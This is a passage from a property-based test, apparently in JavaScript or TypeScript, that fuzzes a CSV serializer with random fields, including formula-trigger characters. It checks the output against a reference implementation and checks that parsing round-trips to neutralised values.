          record_delimiter: '\n',
          quoted_match: /\r/,
          cast: { string: (value, context) => (CSV_ALWAYS_QUOTED.has(context.index) || neutral(value) !== value ? { value: neutral(value), quoted: true, quoted_empty: true } : value) },
        })
      )
    }
    const field = fc.string({ unit: fc.constantFrom('a', 'é', ';', '"', '\n', '\r', ' ', ',', '\t', '🚀', "'", '=', '+', '-', '@') })
    const row = fc.array(field, { minLength: CSV_HEADER.length, maxLength: CSV_HEADER.length })
    fc.assert(
      fc.property(fc.array(row, { maxLength: 5 }), (body) => {
        const rows = [[...CSV_HEADER], ...body]
        const text = serializeCsv(rows)
        expect(text).toBe(reference(rows))
        expect(parse(text, { delimiter: ';' })).toEqual(rows.map((r) => r.map(neutral)))
      }),
      { numRuns: 1000, seed: 23 },
    )
    expect(serializeCsv([])).toBe(reference([]))
    expect(serializeCsv([[...CSV_HEADER]])).toBe(reference([[...CSV_HEADER]]))
  })
})
